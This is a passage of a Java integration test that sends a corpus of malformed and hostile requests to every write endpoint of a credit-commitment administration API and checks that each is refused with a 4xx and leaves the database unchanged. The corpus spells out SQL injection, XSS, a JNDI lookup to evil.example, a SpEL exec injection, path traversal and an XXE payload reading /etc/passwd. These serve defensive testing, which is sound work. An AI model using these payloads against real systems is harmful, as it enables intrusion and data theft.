package org.creditcommitment.commitment;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import org.creditcommitment.IntegrationTest;
import org.creditcommitment.catalogue.CommitmentType;
import org.creditcommitment.subject.TestCodes;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/**
 * Reliability and security, bad input: a corpus of malformed and hostile requests against every write
 * endpoint of /api (found from the handler mapping, so a new endpoint without corpus entries fails this test)
 * and against engine deployments. Every answer is a 4xx with a bilingual message, never a 500; the product's
 * tables are unchanged afterwards. Names and free text with what none may hold ({@link #TEXT_FLAWS}, markup
 * in a name, a lone surrogate) are tried on every body that takes them, and a registered company's code with
 * a made-up name.
 */
class HostileInputTest extends IntegrationTest {

  static final List<String> INJECTIONS = List.of("'; DROP TABLE commitment_case; --", "\" OR 1=1 --",
      "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
      "#{T(java.lang.Runtime).getRuntime().exec('id')}", "../../../../etc/passwd", "\u0000\u202e控制字符");
  /**
   * What no name or free text may hold (FreeText): NUL, a right-to-left override, a bidi isolate, a bell; and what
   * the documents' font cannot print: an emoji, a CJK Extension B character, a private-use character, a 4-byte
   * mathematical letter.
   */
  static final List<String> TEXT_FLAWS = List.of("\u0000", "\u202e", "\u2066", "\u0007", "\uD83D\uDE00",
      "\uD840\uDC00", "\uE000", "\uD835\uDC00");
  static final String XXE = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
  static final List<String> PRODUCT_TABLES = List.of("credit_subject", "credit_dishonesty_record",
      "credit_fulfilment_record", "credit_penalty", "credit_pushed_record", "credit_inspection_feed",
      "subject_checksum_exception", "audit_event", "notification_outbox", "catalogue_department", "catalogue_item",
      "commitment_letter", "commitment_signature", "commitment_case", "credit_query", "act_re_deployment",
      "act_ru_execution", "act_ru_task", "act_id_user", "key_supervision", "voluntary_commitment", "issued_document",
      "document_number", "task_handover", "task_urge", "case_copy", "yearly_report", "evidence_file");

  record Attack(String method, String path, String user, String contentType, String body, String what) {}

  @Autowired
  LifecycleDriver driver;
  @Autowired
  JdbcTemplate jdbc;
  @Autowired
  @org.springframework.beans.factory.annotation.Qualifier("requestMappingHandlerMapping")
  RequestMappingHandlerMapping mappings;
  @Value("${cc.calendar.dir}")
  Path calendarDir;

  private final ObjectMapper json = new ObjectMapper();

  @Test
  void everyHostileRequestIsRefusedWithA4xxAndABilingualMessageAndChangesNothing() throws Exception {
    String subject = driver.subject("AA");
    CaseRecord waitingForConditions = driver.apply(subject, "SCJG-SP-001", CommitmentType.NOTIFY_COMMIT);
    driver.runJobs(waitingForConditions);
    CaseRecord waitingForSignature = driver.apply(driver.subject("AA"), "SCJG-SP-001", CommitmentType.NOTIFY_COMMIT);
    driver.runJobs(waitingForSignature);
    driver.notifyConditions(waitingForSignature);

    List<Attack> corpus = corpus(subject, waitingForConditions.caseNo(), waitingForSignature.caseNo());
    Set<String> covered = new TreeSet<>();
    corpus.forEach(a -> covered.add(a.method() + " " + a.path().replaceAll("\\?.*$", "")
        .replaceAll("/(XY|XF|YY|ZY|GZ)\\d+|/[0-9A-Z]{18}(?=/|$)|/\\d+(?=/)", "/{}")
        .replaceAll("/api/(catalogue|negative-reminders|official-contacts)/[^/]+", "/api/$1/{}")));
    assertThat(covered).as("every write endpoint of /api has hostile requests in the corpus").containsAll(writeEndpoints());

    Map<String, Long> before = rowCounts();
    Path badCalendar = calendarDir.resolve("cn-2099.json");
    Files.createDirectories(calendarDir);
    Files.writeString(badCalendar, "{\"year\": 2099, \"holidays\": [\"2099-13-45\"], " + XXE.replace('"', '\'') + "}");
    List<String> failures = new ArrayList<>();
    try {
      for (Attack attack : corpus) {
        HttpResponse<String> answer = send(attack);
        String problem = check(attack, answer);
        if (problem != null) {
          failures.add(problem);
        }
      }
    } finally {
      Files.deleteIfExists(badCalendar);
    }
    assertThat(failures).as("answers that are not a clear 4xx").isEmpty();
    assertThat(rowCounts()).as("the database is unchanged after refused requests").isEqualTo(before);
    assertThat(corpus.size()).isGreaterThanOrEqualTo(100);
    System.out.println("HostileInputTest: " + corpus.size() + " hostile requests, all refused with 4xx");
  }

  /** POST/PUT/PATCH/DELETE mappings under /api, as "METHOD /path/{}". */
  private Set<String> writeEndpoints() {
    Set<String> found = new TreeSet<>();
    for (RequestMappingInfo info : mappings.getHandlerMethods().keySet()) {
      for (String pattern : info.getPatternValues()) {
        for (RequestMethod method : info.getMethodsCondition().getMethods()) {
          if (pattern.startsWith("/api/") && method != RequestMethod.GET) {
            found.add(method + " " + pattern.replaceAll("\\{[^}]+}", "{}"));
          }
        }
      }
    }
    assertThat(found).isNotEmpty();
    return found;
  }

  private List<Attack> corpus(String existingSubject, String caseAtConditions, String caseAtSignature) throws Exception {
    List<Attack> corpus = new ArrayList<>();
    String valid = TestCodes.uscc();
    // --- POST /api/cases
    Map<String, Object> application = new LinkedHashMap<>(Map.of("applicantCode", valid, "applicantName", "某某有限公司",
        "applicantEmail", "a@example.test", "itemCode", "SCJG-SP-001", "commitmentType", "NOTIFY_COMMIT"));
    for (String code : List.of("123", valid.toLowerCase(), TestCodes.usccWithWrongCheck(), "44150219800101123X",
        "", " ", "9144150".repeat(4), "91441500MA4UH0DR3O")) {
      corpus.add(post("/api/cases", "portal", with(application, "applicantCode", code), "applicant code '" + code + "'"));
    }
    for (String injection : INJECTIONS) {
      corpus.add(post("/api/cases", "portal", with(with(application, "applicantName", injection), "applicantCode", injection),
          "injection in name and code"));
      corpus.add(post("/api/cases", "portal", with(with(application, "itemCode", injection), "applicantCode", "x"),
          "injection in item code"));
    }
    corpus.add(post("/api/cases", "portal", with(application, "itemCode", "NOPE-999"), "unknown item"));
    for (String mobile : List.of("1380013800", "12800138000", "13800138000;13900139000", "'; DROP TABLE commitment_case; --")) {
      corpus.add(post("/api/cases", "portal", with(application, "applicantMobile", mobile), "applicant mobile '" + mobile + "'"));
    }
    corpus.add(post("/api/cases", "portal", with(application, "itemCode", "WSJK-YL-002"), "item not open to commitment"));
    corpus.add(post("/api/cases", "portal", with(with(application, "itemCode", "SCJG-YP-002"), "commitmentType",
        "TOLERATE_MISSING"), "type the item does not offer"));
    corpus.add(post("/api/cases", "portal", with(application, "missingMaterials", List.of("营业执照复印件")),
        "missing materials in notify-commit mode"));
    corpus.add(post("/api/cases", "portal", with(with(application, "commitmentType", "TOLERATE_MISSING"),
        "missingMaterials", List.of("不存在的材料")), "unknown missing material"));
    corpus.add(post("/api/cases", "portal", with(application, "commitmentType", "ANYTHING"), "unknown enum value"));
    corpus.add(post("/api/cases", "portal", with(application, "commitmentType", 5), "number for enum"));
    corpus.add(post("/api/cases", "portal", with(application, "missingMaterials", "营业执照"), "string for list"));
    corpus.add(post("/api/cases", "portal", with(application, "applicantName", Map.of("a", 1)), "object for string"));
    corpus.add(post("/api/cases", "portal", with(application, "applicantEmail", "not-an-email"), "invalid e-mail"));
    corpus.add(post("/api/cases", "portal", with(application, "applicantName", "名".repeat(101)), "name too long"));
    corpus.add(post("/api/cases", "portal", with(application, "isAdmin", true), "extra field"));
    corpus.add(post("/api/cases", "portal", Map.of(), "empty object"));
    corpus.add(post("/api/cases", "portal", without(application, "applicantName"), "missing name"));
    corpus.add(post("/api/cases", "portal", without(application, "commitmentType"), "missing type"));
    corpus.add(raw("POST", "/api/cases", "portal", "application/json", "[]", "array body"));
    corpus.add(raw("POST", "/api/cases", "portal", "application/json", "{\"applicantCode\": ", "truncated JSON"));
    corpus.add(raw("POST", "/api/cases", "portal", "application/json", "", "empty body"));
    corpus.add(raw("POST", "/api/cases", "portal", "application/json", "null", "null body"));
    corpus.add(raw("POST", "/api/cases", "portal", "application/xml", XXE, "XML with an external entity"));
    corpus.add(raw("POST", "/api/cases", "portal", "text/plain", "hello", "text body"));
    corpus.add(raw("POST", "/api/cases", "portal", "application/json",
        "{\"applicantName\": \"" + "x".repeat(300 * 1024) + "\"}", "oversized body (300 KB)"));
    corpus.add(raw("POST", "/api/cases", "portal", "application/json", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000),
        "deeply nested JSON"));
    // a registered company's code with a made-up name, or its own name with what no name may hold
    String registeredName = driver.registry.profile(existingSubject).name();
    Map<String, Object> registered = with(application, "applicantCode", existingSubject);
    corpus.add(post("/api/cases", "portal", with(registered, "applicantName", "某某有限公司"), "name not the registered one"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(post("/api/cases", "portal", with(registered, "applicantName", registeredName + flaw),
          "registered name with U+" + String.format("%04X", (int) flaw.charAt(0))));
      corpus.add(post("/api/cases", "portal", with(with(with(registered, "commitmentType", "TOLERATE_MISSING"),
          "itemCode", "WSJK-GG-001"), "missingMaterials", List.of("卫生管理制度" + flaw)), "missing material with a flaw"));
    }
    corpus.add(post("/api/cases", "portal", with(registered, "applicantName", "<b>" + registeredName + "</b>"),
        "registered name in markup"));
    // written by hand: a JSON writer would not carry a lone surrogate, a JSON reader accepts its escape
    corpus.add(raw("POST", "/api/cases", "portal", "application/json",
        json.writeValueAsString(with(registered, "applicantName", registeredName))
            .replace(json.writeValueAsString(registeredName), "\"" + registeredName + "\\ud800\""),
        "lone surrogate in name"));
    // --- case operations: unknown case, wrong state, bad bodies
    for (String op : List.of("signature", "withdrawal", "commitment-withdrawal", "materials", "correction",
        "rectification", "statement")) {
      corpus.add(post("/api/cases/XY20990101999999/" + op, "portal", Map.of("reason", "x"), op + " of an unknown case"));
      corpus.add(raw("POST", "/api/cases/" + caseAtConditions + "/" + op, "portal", "application/json", "{\"x\": 1}",
          op + " with an unknown field"));
      corpus.add(raw("POST", "/api/cases/" + caseAtConditions + "/" + op, "portal", "application/xml", XXE, op + " XXE"));
    }
    corpus.add(post("/api/cases/" + caseAtConditions + "/signature", "portal",
        Map.of("signer", "法定代表人", "letterSha256", "a".repeat(64)), "sign before the letter is issued"));
    corpus.add(post("/api/cases/" + caseAtSignature + "/signature", "portal",
        Map.of("signer", "法定代表人", "letterSha256", "b".repeat(64)), "sign another letter than the issued one"));
    corpus.add(post("/api/cases/" + caseAtSignature + "/signature", "portal",
        Map.of("signer", "法定代表人", "letterSha256", "not-a-hash"), "malformed letter hash"));
    for (String injection : INJECTIONS) {
      corpus.add(post("/api/cases/" + caseAtSignature + "/signature", "portal",
          Map.of("signer", injection, "letterSha256", "c".repeat(64)), "injection in signer"));
    }
    corpus.add(post("/api/cases/" + caseAtSignature + "/signature", "portal", Map.of("signer", " ", "letterSha256",
        "c".repeat(64)), "blank signer"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/materials", "portal", Map.of("materials", List.of("x")),
        "materials when none are owed"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/materials", "portal", Map.of("materials", List.of()),
        "empty materials"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/correction", "portal",
        Map.of("materials", List.of("营业执照复印件"), "statement", "已补正"), "correction when none was requested"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/correction", "portal",
        Map.of("materials", List.of(), "statement", "已补正"), "correction of no material"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/correction", "portal",
        Map.of("materials", List.of("营业执照复印件")), "correction without a statement"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/rectification", "portal",
        Map.of("description", "<script>alert(1)</script>", "refused", false), "rectification in the wrong state"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/rectification", "portal",
        Map.of("description", "x", "refused", "maybe"), "wrong type for a boolean"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/withdrawal", "portal", Map.of("reason", "理".repeat(501)),
        "withdrawal reason too long"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/commitment-withdrawal", "portal",
        Map.of("reason", "理".repeat(501)), "commitment withdrawal reason too long"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/statement", "portal", Map.of("statement", "请求从轻处理"),
        "statement without a prior notice"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/statement", "portal",
        Map.of("statement", "x", "hearingRequested", "maybe"), "wrong type for the hearing request"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/statement", "portal", Map.of("statement", "辩".repeat(4001)),
        "statement too long"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(post("/api/cases/" + caseAtSignature + "/withdrawal", "portal", Map.of("reason", "暂不经营" + flaw),
          "withdrawal reason with a flaw, in the right state"));
      corpus.add(post("/api/cases/" + caseAtSignature + "/commitment-withdrawal", "portal",
          Map.of("reason", "改按一般程序" + flaw), "commitment withdrawal reason with a flaw, in the right state"));
      corpus.add(post("/api/cases/" + caseAtSignature + "/materials", "portal", Map.of("materials", List.of("x" + flaw)),
          "supplied material with a flaw"));
      corpus.add(post("/api/cases/" + caseAtConditions + "/rectification", "portal",
          Map.of("description", "已整改" + flaw, "refused", false), "rectification description with a flaw"));
      corpus.add(post("/api/cases/" + caseAtConditions + "/statement", "portal",
          Map.of("statement", "请求从轻" + flaw), "statement with a flaw"));
      corpus.add(post("/api/cases/" + caseAtConditions + "/correction", "portal",
          Map.of("materials", List.of("营业执照复印件"), "statement", "已补正" + flaw), "correction statement with a flaw"));
    }
    // --- breaches (the deciding department): a commitment not published yet, bad bodies
    corpus.add(post("/api/cases/" + caseAtConditions + "/breaches", "approver",
        Map.of("reason", "违背承诺", "evidence", "核查笔录"), "breach of a commitment not yet published"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/breaches", "approver", Map.of("reason", "违背承诺"),
        "breach without evidence"));
    corpus.add(post("/api/cases/" + caseAtConditions + "/breaches", "approver",
        Map.of("reason", "理".repeat(2001), "evidence", "x"), "breach reason too long"));
    corpus.add(post("/api/cases/XY00000000000000/breaches", "approver", Map.of("reason", "x", "evidence", "y"),
        "breach of an unknown case"));
    // --- decision period (行政许可法 第四十二条、第四十五条; the case's approvers) and service (第四十四条; clerks)
    String decisionPeriod = "/api/cases/" + caseAtConditions + "/decision-period/";
    corpus.add(post(decisionPeriod + "extension", "approver", Map.of(), "extension without a reason"));
    corpus.add(post(decisionPeriod + "extension", "approver", Map.of("workingDays", 99, "reason", "需要核实"),
        "extension beyond ten working days"));
    corpus.add(post(decisionPeriod + "extension", "approver", Map.of("workingDays", "十", "reason", "需要核实"),
        "text for a number"));
    corpus.add(post(decisionPeriod + "extension", "approver", Map.of("reason", "需要核实"), "extension before the decision"));
    corpus.add(post(decisionPeriod + "suspension", "approver", Map.of("kind", "PICNIC", "reason", "x"), "unknown suspension kind"));
    corpus.add(post(decisionPeriod + "suspension", "approver", Map.of("kind", "HEARING"), "suspension without a reason"));
    corpus.add(post(decisionPeriod + "suspension", "approver", Map.of("kind", "HEARING", "reason", "听证"),
        "suspension before the decision"));
    corpus.add(post(decisionPeriod + "resumption", "approver", Map.of("note", "说".repeat(2001)), "note too long"));
    corpus.add(post(decisionPeriod + "resumption", "approver", Map.of(), "resumption of a period not suspended"));
    corpus.add(post("/api/cases/XY00000000000000/decision-period/extension", "approver", Map.of("reason", "x"),
        "unknown case"));
    String service = "/api/cases/" + caseAtConditions + "/documents/999999999/service";
    corpus.add(post(service, "clerk", Map.of("method", "POST", "servedOn", "2026-12-01"), "no such decision document"));
    corpus.add(post(service, "clerk", Map.of(), "service without method and date"));
    corpus.add(post(service, "clerk", Map.of("method", "PIGEON", "servedOn", "2026-12-01"), "unknown method"));
    corpus.add(post(service, "clerk", Map.of("method", "POST", "servedOn", "2026-13-45"), "no such day"));
    // --- 转办, 委派, 办毕交回 (the task's holder or candidates), 催办 (department heads, the credit office), 抄送
    String task = "/api/tasks/" + processEngine.getTaskService().createTaskQuery()
        .processInstanceBusinessKey(caseAtConditions).singleResult().getId() + "/";
    corpus.add(post(task + "transfer", "clerk", Map.of("toUser", "approver", "reason", "转审批"),
        "transfer to a user who is no candidate"));
    corpus.add(post(task + "transfer", "clerk", Map.of("toUser", "approver"), "transfer without a reason"));
    corpus.add(post(task + "transfer", "clerk", Map.of("reason", "转交"), "transfer to nobody"));
    corpus.add(post(task + "transfer", "clerk", Map.of("toUser", "approver", "reason", "转".repeat(501)),
        "transfer reason too long"));
    corpus.add(post(task + "transfer", "clerk", Map.of("toUser", "approver", "reason", "转交", "extra", 1),
        "transfer with an unknown field"));
    corpus.add(post(task + "delegation", "clerk", Map.of("toUser", "inspector", "reason", "协办"),
        "delegation to a user who is no candidate"));
    corpus.add(post(task + "resolution", "clerk", Map.of(), "resolution of a task not delegated"));
    corpus.add(post(task + "urge", "credit-office", Map.of(), "urge of a task neither late nor slow"));
    corpus.add(post(task + "transfer", "approver", Map.of("toUser", "clerk", "reason", "转交"),
        "transfer by an official the task is not offered to"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(post(task + "transfer", "clerk", Map.of("toUser", "approver", "reason", "转交" + flaw),
          "transfer reason with a flaw"));
      corpus.add(post("/api/cases/" + caseAtConditions + "/copies", "clerk", Map.of("toUser", "approver",
          "note", "知悉" + flaw), "copy note with a flaw"));
    }
    for (String step : List.of("transfer", "delegation", "resolution", "urge")) {
      corpus.add(post("/api/tasks/999999999/" + step, "credit-office", Map.of("toUser", "approver", "reason", "x"),
          step + " of an unknown task"));
    }
    String copies = "/api/cases/" + caseAtConditions + "/copies";
    corpus.add(post(copies, "clerk", Map.of("toUser", "approver"), "copy without a note"));
    corpus.add(post(copies, "clerk", Map.of("note", "知悉"), "copy to nobody"));
    corpus.add(post(copies, "clerk", Map.of("toUser", "approver", "toGroup", "inspector", "note", "知悉"),
        "copy to a user and a group at once"));
    corpus.add(post(copies, "clerk", Map.of("toGroup", "camunda-admin", "note", "知悉"), "copy to the administrators"));
    corpus.add(post(copies, "clerk", Map.of("toUser", "'; DROP TABLE case_copy; --", "note", "知悉"),
        "copy to an injection"));
    corpus.add(post("/api/cases/XY00000000000000/copies", "clerk", Map.of("toUser", "approver", "note", "知悉"),
        "copy of an unknown case"));
    // --- voluntary commitments (portal; the credit office and departments for revocation and breaches)
    Map<String, Object> voluntary = new java.util.LinkedHashMap<>(Map.of("subjectCode", existingSubject,
        "subjectName", "某某有限公司", "templateCode", "ZY-CXJY", "email", "a@example.test", "signer", "王法人",
        "textSha256", "0".repeat(64)));
    corpus.add(post("/api/voluntary-commitments", "portal", voluntary, "voluntary commitment with a hash of no text"));
    corpus.add(post("/api/voluntary-commitments", "portal", with(voluntary, "templateCode", "NOPE"), "unknown template"));
    corpus.add(post("/api/voluntary-commitments", "portal", with(voluntary, "subjectCode", "123"), "invalid code"));
    corpus.add(post("/api/voluntary-commitments", "portal", with(voluntary, "textSha256", "xyz"), "malformed hash"));
    corpus.add(post("/api/voluntary-commitments", "portal", Map.of(), "empty voluntary commitment"));
    corpus.add(post("/api/voluntary-commitments/text", "portal", Map.of("subjectCode", existingSubject,
        "subjectName", "某某有限公司", "templateCode", "NOPE"), "text of an unknown template"));
    corpus.add(post("/api/voluntary-commitments/text", "portal", Map.of(), "text of nothing"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(post("/api/voluntary-commitments/text", "portal", Map.of("subjectCode", existingSubject,
          "subjectName", "某某" + flaw + "公司", "templateCode", "ZY-CXJY"), "subject name with a flaw"));
    }
    corpus.add(post("/api/voluntary-commitments/ZY00000000000000/withdrawal", "portal", Map.of(),
        "withdrawal of an unknown voluntary commitment"));
    corpus.add(post("/api/voluntary-commitments/ZY00000000000000/revocation", "credit-office", Map.of("reason", "x"),
        "revocation of an unknown voluntary commitment"));
    corpus.add(post("/api/voluntary-commitments/ZY00000000000000/breaches", "credit-office",
        Map.of("reason", "x", "evidence", "y"), "breach of an unknown voluntary commitment"));
    corpus.add(post("/api/voluntary-commitments/ZY00000000000000/breaches", "credit-office", Map.of(),
        "breach without reason or evidence"));
    // --- credit registry (credit-office)
    Map<String, Object> newSubject = Map.of("code", valid, "name", "某某有限公司", "grade", "AA");
    for (String code : List.of("123", valid.toLowerCase(), TestCodes.usccWithWrongCheck(), "'; DROP TABLE credit_subject; --")) {
      corpus.add(post("/api/subjects", "credit-office", with(newSubject, "code", code), "subject code '" + code + "'"));
    }
    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "code", existingSubject), "existing subject"));
    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "subjectType", "NATURAL"), "type not matching the code"));
    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "grade", "AAAA"), "grade not on the scale"));
    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "name", ""), "blank name"));
    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "email", "<script>@x"), "script as e-mail"));
    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "extra", 1), "extra field"));
    for (String injection : INJECTIONS.subList(0, 4)) {
      corpus.add(post("/api/subjects", "credit-office", with(with(newSubject, "name", injection), "grade", injection),
          "injection in name and grade"));
    }
    // --- credit reports (a refused request issues nothing: no number is used)
    String reports = "/api/subjects/" + existingSubject + "/credit-reports";
    corpus.add(post(reports, "clerk", Map.of("asOf", "2999-01-01"), "a report as of a day to come"));
    corpus.add(post(reports, "clerk", Map.of("asOf", "2026-13-45"), "a report as of no day"));
    corpus.add(post(reports, "clerk", Map.of("asOf", "'; DROP TABLE issued_document; --"), "injection as the day"));
    corpus.add(raw("POST", reports, "clerk", "application/json", "[]", "array body"));
    corpus.add(post(reports, "clerk", Map.of("asOf", "2026-01-01", "extra", 1), "extra field"));
    corpus.add(post("/api/subjects/" + valid + "/credit-reports", "portal", Map.of(), "report of an unknown subject"));
    corpus.add(post("/api/subjects/" + valid.toLowerCase() + "/credit-reports", "portal", Map.of(),
        "report with a lower-case code"));
    corpus.add(post("/api/subjects/123/credit-reports", "credit-office", Map.of(), "report of a malformed code"));
    corpus.add(raw("PUT", "/api/official-contacts/clerk", "admin", "application/json", "{}", "official's mobile missing"));
    corpus.add(raw("PUT", "/api/official-contacts/clerk", "admin", "application/json", "{\"mobile\": \"0755-1234567\"}",
        "official's mobile a landline"));
    corpus.add(raw("PUT", "/api/official-contacts/clerk", "admin", "application/json",
        "{\"mobile\": \"13800138000\", \"x\": 1}", "official's mobile with an unknown field"));
    corpus.add(raw("PUT", "/api/official-contacts/nobody", "admin", "application/json", "{\"mobile\": \"13800138000\"}",
        "mobile of an unknown user"));
    corpus.add(raw("DELETE", "/api/official-contacts/nobody", "admin", "application/json", "", "mobile of an unknown user removed"));
    corpus.add(raw("PUT", "/api/me/work-digest", "clerk", "application/json", "{}", "digest choice missing"));
    corpus.add(raw("PUT", "/api/me/work-digest", "clerk", "application/json", "{\"subscribed\": \"maybe\"}",
        "digest choice not a boolean"));
    corpus.add(raw("PUT", "/api/me/work-digest", "clerk", "application/json", "{\"subscribed\": true, \"x\": 1}",
        "digest choice with an unknown field"));
    corpus.add(put("/api/subjects/" + valid, "credit-office", Map.of("name", "x"), "update an unknown subject"));
    corpus.add(put("/api/subjects/" + valid.toLowerCase(), "credit-office", Map.of("name", "x"), "update with lower case"));
    corpus.add(put("/api/subjects/" + existingSubject, "credit-office", Map.of("name", ""), "update with blank name"));
    corpus.add(put("/api/subjects/" + existingSubject, "credit-office", Map.of("name", "x", "subjectType", "NATURAL"),
        "update to the wrong type"));
    corpus.add(put("/api/subjects/" + existingSubject + "/grade", "credit-office", Map.of("grade", "Z"), "unknown grade"));
    corpus.add(put("/api/subjects/" + existingSubject + "/grade", "credit-office", Map.of("grade", 3), "number grade"));
    corpus.add(put("/api/subjects/" + existingSubject + "/grade", "credit-office", Map.of(), "missing grade"));
    Map<String, Object> record = Map.of("sourceUnit", "市场监管局", "basis", "销售过期食品", "date", "2025-12-01",
        "publicityEnd", "2026-12-01");
    corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
        with(record, "date", "2025-13-45"), "impossible date"));
    corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
        without(record, "publicityEnd"), "missing publicity end"));
    corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
        with(record, "publicityEnd", "2020-01-01"), "publicity ends before it starts"));
    corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
        with(record, "basis", "据".repeat(2001)), "basis too long"));
    corpus.add(post("/api/subjects/" + valid + "/dishonesty-records", "credit-office", record, "unknown subject"));
    corpus.add(put("/api/subjects/" + existingSubject + "/dishonesty-records/999999999/status", "credit-office",
        Map.of("status", "REVOKED", "reason", "x"), "unknown record"));
    corpus.add(put("/api/subjects/" + existingSubject + "/dishonesty-records/abc/status", "credit-office",
        Map.of("status", "REVOKED", "reason", "x"), "record id not a number"));
    corpus.add(put("/api/subjects/" + existingSubject + "/dishonesty-records/1/status", "credit-office",
        Map.of("status", "DELETED", "reason", "x"), "unknown status"));
    corpus.add(put("/api/subjects/" + existingSubject + "/blacklist", "credit-office", Map.of("basis", "x"),
        "blacklist without the flag"));
    corpus.add(put("/api/subjects/" + existingSubject + "/blacklist", "credit-office", Map.of("blacklisted", "yes"),
        "blacklist flag of the wrong type"));
    corpus.add(put("/api/subjects/" + valid + "/red-list", "credit-office", Map.of("redListed", true), "red-list unknown"));
    corpus.add(put("/api/subjects/" + existingSubject + "/red-list", "credit-office", Map.of(), "red-list without flag"));
    corpus.add(post("/api/checksum-exceptions", "credit-office", Map.of("code", "123", "reason", "x"), "invalid code"));
    corpus.add(post("/api/checksum-exceptions", "credit-office", Map.of("code", valid, "reason", " "), "blank reason"));
    corpus.add(post("/api/checksum-exceptions", "credit-office", Map.of("code", valid.toLowerCase(), "reason", "x"),
        "lower-case code"));
    // the yearly report (普政数局〔2022〕25号 三（三）): no, a future, a too early or no numeric year; a bad recipient
    String yearly = "/api/statistics/yearly-reports";
    corpus.add(post(yearly, "credit-office", Map.of(), "yearly report without a year"));
    corpus.add(post(yearly, "credit-office", Map.of("year", 9999), "yearly report of a future year"));
    corpus.add(post(yearly, "credit-office", Map.of("year", 1999), "yearly report before the first case"));
    corpus.add(post(yearly, "credit-office", Map.of("year", "二〇二六"), "yearly report's year not a number"));
    for (String injection : INJECTIONS) {
      corpus.add(post(yearly, "credit-office", Map.of("year", injection), "injection as the report's year"));
      corpus.add(post(yearly + "/999999999/filing", "credit-office", Map.of("filedTo", injection),
          "injection as the filing's recipient"));
    }
    corpus.add(post(yearly + "/999999999/filing", "credit-office", Map.of(), "filing without a recipient"));
    corpus.add(post(yearly + "/999999999/filing", "credit-office", Map.of("filedTo", "局".repeat(201)),
        "filing's recipient too long"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(post("/api/subjects", "credit-office", with(newSubject, "name", "某某" + flaw + "有限公司"),
          "new subject's name with a flaw"));
      corpus.add(put("/api/subjects/" + existingSubject, "credit-office", Map.of("name", "某某" + flaw + "有限公司"),
          "renamed with a flaw"));
      corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
          with(record, "basis", "销售过期食品" + flaw), "record basis with a flaw"));
      corpus.add(put("/api/subjects/" + existingSubject + "/blacklist", "credit-office",
          Map.of("blacklisted", true, "basis", "严重失信" + flaw), "blacklist basis with a flaw"));
      corpus.add(post("/api/checksum-exceptions", "credit-office", Map.of("code", valid, "reason", "历史代码" + flaw),
          "checksum exception reason with a flaw"));
    }
    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "name", "<b>某某有限公司</b>"), "markup in a name"));
    corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
        with(record, "sourceUnit", "<i>市场监管局</i>"), "markup in the source unit"));
    corpus.add(put("/api/subjects/" + existingSubject + "/dishonesty-records/1/status", "credit-office",
        Map.of("status", "REVOKED", "reason", "撤销\u202e"), "status reason with a bidi override"));
    // --- catalogue (camunda-admin)
    JsonNode item = json.readTree(http.get("/api/catalogue/SCJG-SP-001", "admin").body());
    Map<String, Object> itemMap = json.convertValue(item, Map.class);
    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "code", "OTHER-001"), "code mismatch"));
    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "department", "nope"), "unknown department"));
    for (String period : List.of("5XD", "P-1D", "PT0S", "2000WD", "'; DROP TABLE catalogue_item; --")) {
      corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "periods", Map.of("signing", period,
          "decision", "10WD", "inspection", "P3M", "rectification", "15WD", "materials", "20WD")), "period " + period));
    }
    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "commitmentTypes", List.of("NONE")), "unknown type"));
    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "letterTemplate", "承诺人：${applicantName}${evil}"),
        "template with an unknown placeholder"));
    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "openToCommitment", "sometimes"), "wrong type"));
    corpus.add(put("/api/catalogue/" + UUID.randomUUID(), "admin", Map.of("name", "<script>alert(1)</script>"),
        "new item with nothing but a script name"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "conditions", "条件" + flaw),
          "conditions with a flaw"));
